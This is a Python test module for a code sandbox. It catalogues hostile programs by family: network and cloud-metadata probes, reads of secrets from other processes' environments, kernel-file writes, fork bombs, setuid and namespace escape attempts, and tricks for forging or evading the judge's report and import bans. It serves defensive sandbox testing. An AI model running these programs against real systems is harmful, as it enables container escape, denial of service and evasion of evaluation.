"""Hostile programs in named families: what each tries, and what must happen.

A program that is to be held prints the attempts that succeeded, or `held` when none did, so that a program which
never came to its attempt fails the test as surely as one that escaped.
"""

# ruff: noqa: E501 - the programs are dense, as an attacker's are

from __future__ import annotations

from dataclasses import dataclass, field
from textwrap import dedent

from sandbox.contract import Limits, Outcome

PREAMBLE = """
import ctypes, os, platform, sys
libc = ctypes.CDLL(None, use_errno=True)
got = []
def attempt(label, action, *arguments):
    try:
        result = action(*arguments)
    except (OSError, ValueError, OverflowError, RuntimeError):
        return
    got.append(label if result is None else f"{label}: {result!r:.80}")
def syscall(label, x86_64, aarch64, *arguments):
    number = {"x86_64": x86_64, "aarch64": aarch64}[platform.machine()]
    if libc.syscall(number, *arguments) >= 0: got.append(label)
def poke(path, text):
    descriptor = os.open(path, os.O_WRONLY)
    try: os.write(descriptor, text)
    finally: os.close(descriptor)
def finish():
    print(got or "held")
"""


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """One program and its fate."""

    name: str
    family: str
    tries: str
    program: str
    ends: frozenset[Outcome] = frozenset({Outcome.FINISHED})
    printed: str | None = "held\n"
    """What it must print, or None where only the way it ends matters."""
    limits: Limits = field(default_factory=lambda: Limits(wall_s=20.0, memory_mb=256, processes=64))
    banned: tuple[str, ...] = ()

    def source(self) -> str:
        return PREAMBLE + dedent(self.program)


def _held(name: str, family: str, tries: str, program: str, **fields: object) -> Hostile:
    return Hostile(name=name, family=family, tries=tries, program=dedent(program) + "\nfinish()\n", **fields)  # type: ignore[arg-type]


def _stopped(name: str, family: str, tries: str, program: str, *ends: Outcome, limits: Limits) -> Hostile:
    return Hostile(
        name=name, family=family, tries=tries, program=program, ends=frozenset(ends), printed=None, limits=limits
    )


NETWORK = (
    _held(
        "connects_by_ipv4_and_ipv6",
        "network",
        "to reach documentation addresses, the cloud's metadata service and name servers",
        """
        import socket
        for address in (("192.0.2.1", 80), ("169.254.169.254", 80), ("1.1.1.1", 53), ("172.17.0.1", 22), ("2001:db8::1", 80)):
            family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
            def connect():
                with socket.socket(family) as s: s.settimeout(1); s.connect(address)
            attempt(address, connect)
            def send():
                with socket.socket(family, socket.SOCK_DGRAM) as s: s.sendto(b"answers", address)
            attempt(("udp", address), send)
        """,
    ),
    _held(
        "resolves_names",
        "network",
        "to carry data out in DNS queries",
        """
        import socket
        for name in ("answers.example.org", "metadata.google.internal", "host.docker.internal", "redis", "postgres"):
            attempt(name, socket.getaddrinfo, name, 80)
        """,
    ),
    _held(
        "opens_sockets_that_ignore_network_namespaces",
        "network",
        "vsock, netlink, packet, raw, bluetooth, alg and tipc sockets",
        """
        import socket
        for family, kind, protocol in ((40, 1, 0), (16, 3, 0), (17, 3, 768), (2, 3, 1), (31, 3, 1), (38, 5, 0), (30, 1, 0), (29, 3, 1)):
            attempt(family, lambda: socket.socket(family, kind, protocol).close())
        """,
    ),
    _held(
        "looks_for_sockets_of_services",
        "network",
        "unix sockets of Docker, databases and system services",
        """
        import socket
        paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
                 "/var/run/postgresql/.s.PGSQL.5432", "/tmp/.X11-unix/X0", "\\0/tmp/.X11-unix/X0", "\\0containerd-shim"]
        for path in paths:
            def connect():
                with socket.socket(socket.AF_UNIX) as s: s.connect(path)
            attempt(path, connect)
        got += [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:] if len(line.split()) > 7]
        """,
    ),
)

FILES = (
    _held(
        "searches_the_whole_tree_for_the_truth",
        "files",
        "to find a file of the judge by its name or its words, everywhere that it can read",
        """
        for folder, folders, files in os.walk("/"):
            folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys", "/dev", "/usr", "/python", "/site")]
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if "hidden-truth" in name or b"THE-HIDDEN-" + b"TRUTH" in open(path, "rb").read(1 << 16): got.append(path)
                except OSError: pass
        """,
    ),
    _held(
        "goes_through_proc_to_other_roots",
        "files",
        "the root, working folder, memory and files of every process that it sees",
        """
        me = os.getpid()
        own = os.stat("/").st_ino, os.stat("/").st_dev
        for number in filter(str.isdigit, os.listdir("/proc")):
            if int(number) == me: continue
            for name in ("environ", "mem", "maps"):
                def read():
                    text = open(f"/proc/{number}/{name}", "rb").read(100)
                    if text and name == "mem": return "memory"
                    raise OSError
                attempt((number, name), read)
            def root():
                facts = os.stat(f"/proc/{number}/root/")
                if (facts.st_ino, facts.st_dev) == own: raise OSError
            attempt((number, "root"), root)
        """,
    ),
    _held(
        "writes_to_the_kernel_by_files",
        "files",
        "core_pattern, sysrq, modprobe, cgroup release agents and power states",
        """
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches",
                     "/sys/power/state", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/memory/release_agent"):
            attempt(path, poke, path, b"1")
        """,
    ),
    _held(
        "reads_what_the_kernel_hides",
        "files",
        "kernel memory, symbols, logs, keys and the memory map",
        """
        for path in ("/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/dev/mem", "/dev/kmem", "/proc/kallsyms", "/proc/keys", "/proc/kpagecount"):
            def read():
                text = open(path, "rb").read(4096)
                if not text or not text.replace(b"0", b"").strip() or b"0000000000000000 " in text: raise OSError
                return text[:40]
            attempt(path, read)
        """,
    ),
    _held(
        "looks_for_devices",
        "files",
        "disks and other devices below /dev, and to make some",
        """
        import stat
        harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console"}
        for folder, _, files in os.walk("/dev"):
            for name in files:
                mode = os.lstat(os.path.join(folder, name)).st_mode
                if (stat.S_ISBLK(mode) or stat.S_ISCHR(mode)) and name not in harmless and not name.isdigit(): got.append(name)
        for major, minor, kind in ((8, 0, stat.S_IFBLK), (1, 1, stat.S_IFCHR), (254, 0, stat.S_IFBLK), (1, 3, stat.S_IFCHR)):
            for folder in ("/tmp", "/output"):
                def make():
                    os.mknod(f"{folder}/device", kind | 0o666, os.makedev(major, minor)); open(f"{folder}/device", "rb")
                attempt((major, minor, folder), make)
        """,
    ),
    _held(
        "puts_itself_in_place_of_the_output_folder",
        "files",
        "to exchange /output, /report and /work for links that the judge would follow",
        """
        for folder in ("/output", "/report", "/work", "/data"):
            attempt(folder, os.rmdir, folder)
            attempt(folder, os.rename, folder, folder + ".old")
            attempt(folder, os.symlink, "/etc", folder + "2")
        """,
    ),
    _held(
        "writes_files_that_are_executed_later",
        "files",
        "sitecustomize, .pth files and byte code beside the libraries and the guest",
        """
        import json, sysconfig
        folders = {os.path.dirname(json.__file__), sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"), *sys.path, "/opt/judge/judge_guest"}
        for folder in folders:
            for name in ("sitecustomize.py", "evil.pth", "__pycache__/x.pyc"):
                attempt((folder, name), lambda: open(os.path.join(folder, name), "w").close())
        """,
    ),
)

PROCESSES = (
    Hostile(
        name="bombs_with_forks",
        family="processes",
        tries="to double without end",
        program="""
        while True:
            try: os.fork()
            except OSError: pass
        """,
        ends=frozenset({Outcome.TIMED_OUT, Outcome.OUT_OF_MEMORY}),
        printed=None,
        limits=Limits(wall_s=3.0, memory_mb=256, processes=32),
    ),
    _held(
        "bombs_with_threads",
        "processes",
        "to have ten thousand threads",
        """
        import threading, time
        threads = []
        def start():
            for _ in range(10_000):
                thread = threading.Thread(target=time.sleep, args=(1,), daemon=True); thread.start(); threads.append(thread)
        attempt("threads", start)
        if len(threads) > 64: got.append(len(threads))
        """,
    ),
    _held(
        "leaves_daemons_behind",
        "processes",
        "to go on writing after the end, out of a session of its own, deaf to signals",
        """
        import signal, time
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 65):
                try: signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError): pass
            if os.fork() == 0:
                while True: time.sleep(0.01); open("/output/later.txt", "w").write(str(time.time()))
            os._exit(0)
        os.wait()
        """,
    ),
    _held(
        "floods_with_zombies",
        "processes",
        "to fill the process table with children that nobody reaps",
        """
        made = 0
        try:
            while made < 10_000:
                if os.fork() == 0: os._exit(0)
                made += 1
        except OSError: pass
        if made > 64: got.append(made)
        """,
    ),
    _held(
        "kills_everybody",
        "processes",
        "to signal the init of its namespace, processes of other namespaces and everybody at once",
        """
        import signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        for number in (2, 3, 100, 1000, 4194303):
            if number != os.getpid(): attempt(number, os.kill, number, signal.SIGKILL)
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try: os.kill(1, number)
            except OSError: pass
        """,
        ends=frozenset({Outcome.FINISHED, Outcome.CRASHED}),
        printed=None,
    ),
    _held(
        "traces_the_init",
        "processes",
        "ptrace, process_vm_readv, pidfd_getfd and /proc/1/mem",
        """
        syscall("ptrace", 101, 117, 16, 1, 0, 0)
        syscall("traceme", 101, 117, 0, 0, 0, 0)
        syscall("process_vm_readv", 310, 270, 1, 0, 0, 0, 0, 0)
        descriptor = os.pidfd_open(1)
        for number in range(3): syscall("pidfd_getfd", 438, 438, descriptor, number, 0)
        attempt("memory", lambda: open("/proc/1/mem", "rb+").read(1))
        """,
    ),
)

MEMORY = Limits(wall_s=30.0, memory_mb=128, tmp_mb=1024, shm_mb=1024, output_mb=1024)

RESOURCES = (
    _stopped(
        "eats_memory_by_mmap",
        "resources",
        "to take anonymous memory in large maps",
        """
        import mmap
        kept = []
        while True:
            area = mmap.mmap(-1, 16 << 20); kept.append(area)
            for at in range(0, 16 << 20, 4096): area[at] = 1
        """,
        Outcome.OUT_OF_MEMORY,
        limits=MEMORY,
    ),
    _stopped(
        "eats_memory_by_numpy",
        "resources",
        "to double an array",
        "import numpy\narray = numpy.ones(1 << 20)\nwhile True: array = numpy.concatenate([array, array])",
        Outcome.OUT_OF_MEMORY,
        limits=MEMORY,
    ),
    _stopped(
        "eats_memory_by_shared_memory",
        "resources",
        "to hide memory in /dev/shm, which belongs to no process",
        "with open('/dev/shm/hoard', 'wb') as file:\n    while True: file.write(bytes(1 << 20))",
        Outcome.OUT_OF_MEMORY,
        limits=MEMORY,
    ),
    _stopped(
        "eats_memory_by_tmp",
        "resources",
        "to hide memory in files of /tmp",
        "with open('/tmp/hoard', 'wb') as file:\n    while True: file.write(bytes(1 << 20))",
        Outcome.OUT_OF_MEMORY,
        limits=MEMORY,
    ),
    _stopped(
        "eats_memory_by_memfd",
        "resources",
        "to hide memory in a file without a name",
        "descriptor = os.memfd_create('hoard')\nwhile True: os.write(descriptor, bytes(1 << 20))",
        Outcome.OUT_OF_MEMORY,
        limits=MEMORY,
    ),
    _stopped(
        "eats_memory_by_pipes_and_sockets",
        "resources",
        "to hide memory in the kernel's buffers",
        """
        import socket
        kept = []
        try:
            while True:
                pair = socket.socketpair(); kept.append(pair)
                for s in pair: s.setblocking(False)
                try:
                    while True: pair[0].send(bytes(65536))
                except BlockingIOError: pass
        except OSError: pass
        """,
        Outcome.FINISHED,
        Outcome.OUT_OF_MEMORY,
        limits=Limits(wall_s=30.0, memory_mb=128, open_files=256),
    ),
    _stopped(
        "spins_in_many_processes",
        "resources",
        "to use more processor time than allowed by spreading it",
        "for _ in range(3): os.fork()\nwhile True: pass",
        Outcome.TIMED_OUT,
        limits=Limits(wall_s=30.0, cpu_s=1.0, cpus=2.0),
    ),
    _stopped(
        "prints_for_ever",
        "resources",
        "to fill our memory or disk with standard output",
        "while True: os.write(1, b'x' * 65536)",
        Outcome.TIMED_OUT,
        limits=Limits(wall_s=2.0),
    ),
    _stopped(
        "complains_for_ever",
        "resources",
        "to fill our memory or disk with standard error, in lines",
        "while True: print('no', file=sys.stderr)",
        Outcome.TIMED_OUT,
        limits=Limits(wall_s=2.0),
    ),
    _stopped(
        "fills_the_output",
        "resources",
        "to fill the disk through many files",
        """
        for number in range(10_000):
            with open(f"/output/{number}", "wb") as file: file.write(bytes(1 << 20))
        """,
        Outcome.OUTPUT_TOO_LARGE,
        limits=Limits(wall_s=30.0, output_mb=16, memory_mb=256),
    ),
    _stopped(
        "makes_a_million_files",
        "resources",
        "to use up the inodes",
        "for number in range(1_000_000): os.mkdir(f'/output/{number}'); open(f'/output/{number}/f', 'w').close()",
        Outcome.OUTPUT_TOO_LARGE,
        Outcome.OUT_OF_MEMORY,
        Outcome.TIMED_OUT,
        limits=Limits(wall_s=10.0, output_files=16, memory_mb=128),
    ),
    _held(
        "fills_the_report",
        "resources",
        "to use the guest's own folder as a larger disk",
        """
        written = 0
        try:
            for number in range(100):
                with open(f"/report/{number}", "wb") as file: written += file.write(bytes(1 << 20)); file.flush()
        except OSError: pass
        if written > 9 << 20: got.append(written)
        """,
        limits=Limits(wall_s=20.0, output_mb=8, memory_mb=256),
        ends=frozenset({Outcome.FINISHED, Outcome.OUTPUT_TOO_LARGE}),
    ),
    _stopped(
        "overflows_the_stack",
        "resources",
        "to crash the interpreter",
        "sys.setrecursionlimit(10**9)\ndef f(): return f.__call__()\nf()",
        Outcome.CRASHED,
        Outcome.OUT_OF_MEMORY,
        limits=Limits(wall_s=20.0, memory_mb=512),
    ),
    _held(
        "opens_files_without_end",
        "resources",
        "to use up file descriptors, and to raise its own limits",
        """
        import resource
        kept = []
        try:
            while len(kept) < 5000: kept.append(os.open("/dev/null", os.O_RDONLY))
        except OSError: pass
        for number in kept: os.close(number)
        if len(kept) > 300: got.append(len(kept))
        for name in ("RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_CORE", "RLIMIT_CPU"):
            kind = getattr(resource, name)
            attempt(name, resource.setrlimit, kind, (resource.getrlimit(kind)[1] + 1,) * 2)
        """,
        limits=Limits(wall_s=20.0, open_files=256),
    ),
)

PRIVILEGES = (
    _held(
        "becomes_root",
        "privileges",
        "setuid, setgid, groups and set-user-id programs",
        """
        attempt("setuid", os.setuid, 0); attempt("setgid", os.setgid, 0); attempt("setgroups", os.setgroups, [0])
        attempt("setresuid", os.setresuid, 0, 0, 0)
        import glob, subprocess
        for path in ("/usr/bin/su", "/usr/bin/sudo", "/usr/bin/passwd", "/usr/bin/newgrp"):
            if os.path.exists(path) and os.statvfs(path).f_flag & os.ST_NOSUID == 0:
                done = subprocess.run([path, "-c", "id -u"], capture_output=True, input=b"")
                if done.stdout.strip() == b"0": got.append(path)
        open("/tmp/shell", "wb").write(open("/bin/sh", "rb").read()); os.chmod("/tmp/shell", 0o6755)
        def run():
            uid = subprocess.run(["/tmp/shell", "-pc", "id -u"], capture_output=True).stdout.strip()
            if uid != b"0": raise OSError
        attempt("own shell", run)
        """,
    ),
    _held(
        "makes_namespaces_and_mounts",
        "privileges",
        "unshare, clone, setns, mount, the new mount calls, pivot_root and chroot",
        """
        for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x08000000, 0x04000000): syscall(f"unshare {flag:x}", 272, 97, flag)
        child = libc.syscall({"x86_64": 56, "aarch64": 220}[platform.machine()], 0x10000000 | 17, 0, 0, 0, 0)
        if child == 0: os._exit(0)
        if child > 0: got.append("clone")
        descriptor = os.open("/proc/1/ns/mnt", os.O_RDONLY) if os.access("/proc/1/ns/mnt", os.R_OK) else 0
        syscall("setns", 308, 268, descriptor, 0)
        syscall("mount", 165, 40, b"tmpfs", b"/tmp", b"tmpfs", 0, None)
        syscall("remount", 165, 40, None, b"/", None, 0x1020, None)
        syscall("umount", 166, 39, b"/work", 2); syscall("umount /proc", 166, 39, b"/proc", 2)
        syscall("open_tree", 428, 428, -100, b"/", 1); syscall("fsopen", 430, 430, b"tmpfs", 0); syscall("mount_setattr", 442, 442, -100, b"/", 0, 0, 0)
        syscall("pivot_root", 155, 41, b"/tmp", b"/tmp"); syscall("chroot", 161, 51, b"/tmp")
        """,
    ),
    _held(
        "calls_what_breaks_kernels",
        "privileges",
        "io_uring, bpf, perf, userfaultfd, keys, kexec, modules, aio, splices and message queues",
        """
        buffer = ctypes.create_string_buffer(4096)
        for label, x86_64, aarch64, *arguments in (
            ("io_uring_setup", 425, 425, 8, buffer), ("bpf", 321, 280, 5, buffer, 128), ("perf", 298, 241, buffer, 0, -1, -1, 0),
            ("userfaultfd", 323, 282, 1), ("add_key", 248, 217, b"user", b"k", b"v", 1, -3), ("keyctl", 250, 219, 0, -3, 0),
            ("kexec", 246, 104, 0, 0, 0, 0), ("module", 313, 273, 0, b"", 0), ("io_setup", 206, 0, 8, buffer),
            ("vmsplice", 278, 75, 1, buffer, 0, 0), ("mq_open", 240, 180, b"q", 0o102, 0o600, 0), ("shmget", 29, 194, 0, 4096, 0o1600),
            ("memfd_secret", 447, 447, 0), ("name_to_handle_at", 303, 264, -100, b"/", buffer, buffer, 0), ("personality", 135, 92, 0x0040000),
            ("quotactl", 179, 60, 0, 0, 0, 0), ("swapon", 167, 224, b"/tmp/x", 0), ("reboot", 169, 142, 0xfee1dead, 672274793, 0, 0),
            ("clock_settime", 227, 112, 0, buffer), ("settimeofday", 164, 170, buffer, 0), ("sethostname", 170, 161, b"x", 1),
        ):
            syscall(label, x86_64, aarch64, *arguments)
        """,
    ),
    _held(
        "asks_for_capabilities_and_priority",
        "privileges",
        "capset, ambient capabilities, real-time priority, nice and protection from the memory killer",
        """
        header = (ctypes.c_uint32 * 2)(0x20080522, 0); data = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
        syscall("capset", 126, 91, header, data)
        if libc.prctl(47, 2, 21, 0, 0) == 0: got.append("ambient")
        attempt("fifo", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)))
        attempt("nice", lambda: os.setpriority(os.PRIO_PROCESS, 0, -10))
        attempt("oom", poke, "/proc/self/oom_score_adj", b"-1000")
        if libc.prctl(38, 0, 0, 0, 0) == 0 or libc.prctl(39, 0, 0, 0, 0) != 1: got.append("new privileges")
        """,
    ),
    _held(
        "speaks_the_other_tongue_of_the_kernel",
        "privileges",
        "the x32 and the 32-bit numbers of calls, to slip past the filter",
        """
        for number in (101, 165, 272, 425) if platform.machine() == "x86_64" else ():
            child = os.fork()
            if child == 0: os._exit(0 if libc.syscall(0x40000000 | number, 0, 0, 0, 0) >= 0 else 1)
            if os.waitpid(child, 0)[1] == 0: got.append(number)
        """,
    ),
)

CHEATING = (
    Hostile(
        name="forges_the_report",
        family="cheating",
        tries="to claim another exception, in too many words, and to let the judge read a link",
        program="""
        import json
        open("/report/report.json", "w").write(json.dumps({"type": "X" * 9999, "message": "\\x1b[2J" * 999, "line": -5, "file": "../../etc/passwd"}))
        print("held"); sys.stdout.flush(); os._exit(3)
        """,
        ends=frozenset({Outcome.CRASHED}),
    ),
    Hostile(
        name="links_the_report_to_a_secret",
        family="cheating",
        tries="to have the judge follow a link in place of the report",
        program="""
        os.unlink("/report/report.json"); os.symlink("/etc/passwd", "/report/report.json")
        print("held"); sys.stdout.flush(); os._exit(4)
        """,
        ends=frozenset({Outcome.CRASHED}),
    ),
    Hostile(
        name="speaks_as_the_guest",
        family="cheating",
        tries="to print the guest's own words again",
        program="""
        os.write(1, b"judge-guest 1 ready\\n" * 3)
        """,
        printed="judge-guest 1 ready\n" * 3,
    ),
    _held(
        "hides_a_failure",
        "cheating",
        "to make a crash look like an end without error by replacing how the process leaves",
        """
        real = os._exit
        os._exit = lambda code: real(0)
        sys.exit = lambda code=0: real(0)
        """,
    ),
    _held(
        "reads_the_environment_of_the_judge",
        "cheating",
        "secrets in its own environment and in that of other processes",
        """
        import glob
        for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ"]:
            try: text = open(path, "rb").read().upper()
            except OSError: continue
            got += [word for word in (b"SECRET", b"PASSWORD", b"TOKEN", b"DATABASE_URL", b"ADVERSARIAL_MARK") if word in text]
        """,
    ),
    _held(
        "reads_files_that_the_guest_left_open",
        "cheating",
        "to use a descriptor that leads out of the sandbox",
        """
        for number in range(3, 1024):
            try: target = os.readlink(f"/proc/self/fd/{number}")
            except OSError: continue
            if target not in ("/report/report.json",) and not target.startswith(("/proc/", "anon_inode")): got.append(target)
            attempt(number, lambda: os.close(os.open("..", os.O_RDONLY, dir_fd=number)))
        """,
    ),
    _held(
        "shadows_the_guest_and_the_libraries",
        "cheating",
        "files in /work that are named like modules of the guest or of the interpreter's start",
        """
        got += [name for name in ("shadow", "usercustomize", "guard", "report", "boot") if name in sys.modules]
        """,
    ),
    _held(
        "imports_what_is_banned_by_compiled_and_renamed_files",
        "cheating",
        "copies of the banned package under other names, byte code without source, extension modules by path",
        """
        import importlib.machinery, importlib.util
        found = []
        for folder, folders, files in os.walk("/"):
            folders[:] = [name for name in folders if name not in ("proc", "sys")]
            found += [os.path.join(folder, name) for name in files if "sklearn" in folder and name.endswith((".so", ".pyc"))]
        for path in found:
            loader = (importlib.machinery.ExtensionFileLoader if path.endswith(".so") else importlib.machinery.SourcelessFileLoader)
            def load():
                name = os.path.basename(path).partition(".")[0]
                spec = importlib.util.spec_from_file_location(name, path, loader=loader(name, path))
                module = importlib.util.module_from_spec(spec); spec.loader.exec_module(module)
                return [name for name in dir(module) if not name.startswith("_")][:3] or int("no")
            try: attempt(path, load)
            except (ImportError, EOFError): pass
        """,
        banned=("sklearn",),
    ),
    _held(
        "takes_the_guard_away",
        "cheating",
        "to import after emptying the finders, restoring __import__ and reloading importlib",
        """
        import builtins, importlib, importlib._bootstrap_external, _frozen_importlib
        sys.meta_path[:] = [importlib.machinery.BuiltinImporter, importlib.machinery.PathFinder]
        builtins.__import__ = _frozen_importlib.__import__
        sys.path_importer_cache.clear(); importlib.invalidate_caches()
        def use():
            import sklearn.linear_model
            return sklearn.linear_model.LinearRegression()
        try: attempt("sklearn", use)
        except (ImportError, AttributeError): pass
        def inverse():
            for name in [name for name in sys.modules if name.startswith("numpy")]: del sys.modules[name]
            import numpy
            return numpy.linalg.inv([[2.0]])
        try: attempt("numpy.linalg", inverse)
        except (ImportError, AttributeError): pass
        """,
        banned=("sklearn", "numpy.linalg"),
    ),
    _held(
        "changes_the_clock",
        "cheating",
        "to win time by setting clocks and timers back",
        """
        import time
        attempt("clock", time.clock_settime, time.CLOCK_REALTIME, 0.0)
        attempt("monotonic", time.clock_settime, time.CLOCK_MONOTONIC, 0.0)
        syscall("adjtimex", 159, 171, ctypes.create_string_buffer(4096))
        """,
    ),
)

PROGRAMS: tuple[Hostile, ...] = NETWORK + FILES + PROCESSES + RESOURCES + PRIVILEGES + CHEATING
